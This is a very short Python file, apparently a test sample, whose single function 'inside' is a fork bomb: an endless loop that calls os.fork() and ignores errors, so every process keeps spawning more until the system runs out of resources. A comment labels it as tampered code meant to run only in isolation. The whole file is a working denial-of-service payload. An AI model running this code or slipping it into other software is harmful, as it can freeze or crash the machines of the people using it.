# unsolved, tampered (only isolated): each process of it starts another, without an end
import os


def inside(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass
